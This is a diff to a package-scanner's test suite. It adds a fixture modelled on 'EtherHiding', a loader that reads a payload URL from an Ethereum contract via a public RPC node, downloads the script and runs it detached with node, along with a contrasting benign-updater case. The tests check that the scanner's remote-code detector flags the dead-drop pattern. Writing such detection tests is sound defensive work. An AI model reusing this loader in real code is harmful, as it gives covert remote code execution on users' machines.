@@ -412,6 +412,40 @@ module.exports = { opts, icon };
   });
 });
 
+describe('payload addresses read from a dead drop', () => {
+  const loader = (then: string) => `const https = require('https'); const fs = require('fs'); const os = require('os'); const path = require('path');
+const { spawn } = require('child_process');
+function rpc(endpoint) {
+  return new Promise((resolve) => {
+    const req = https.request(endpoint, { method: 'POST' }, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => resolve(JSON.parse(d).result)); });
+    req.end(JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x7a3c1f0b5d8e29c4a6f1b0e3d2c5a8f9e1b4d706', data: '0x58de43a3' }, 'latest'] }));
+  });
+}
+function download(url, dest) {
+  return new Promise((resolve) => https.get(url, (res) => { const out = fs.createWriteStream(dest); res.pipe(out); out.on('finish', resolve); }));
+}
+async function refresh() {
+  const memo = await rpc('https://ethereum-rpc.publicnode.com');
+  const url = Buffer.from(String(memo).slice(2), 'hex').toString('utf8');
+  ${then}
+}
+module.exports = { warm() { setTimeout(() => refresh().catch(() => {}), 1500); } };
+`;
+
+  it('a script fetched from the address a contract read returned, run with node, is high (EtherHiding, colortoolsv2 2025)', () => {
+    const r = scan({ 'lib/cache.js': loader("const dest = path.join(os.tmpdir(), '.c-' + Date.now() + '.js');\n  await download(url, dest);\n  spawn(process.execPath, [dest], { detached: true, stdio: 'ignore' }).unref();") }, { main: 'lib/cache.js' });
+    const found = r.findings.find((f) => f.detector === 'remote-code');
+    expect(found?.data?.origin).toMatch(/from an address another request returned/);
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it("a release binary found through a release API and run is an updater's way, not a dead drop", () => {
+    const r = scan({ 'lib/cache.js': loader("const dest = path.join(os.homedir(), '.tool', 'bin', 'tool');\n  await download(url, dest);\n  fs.chmodSync(dest, 0o755);\n  spawn(dest, ['--version']);") }, { main: 'lib/cache.js' });
+    expect(r.findings.find((f) => f.detector === 'remote-code')?.data?.origin ?? '').not.toMatch(/another request/);
+    expect(['high', 'critical']).not.toContain(r.level);
+  });
+});
+
 describe('the Function constructor under another name', () => {
   it.each([
     ['Function.constructor', 'new (Function.constructor)'],
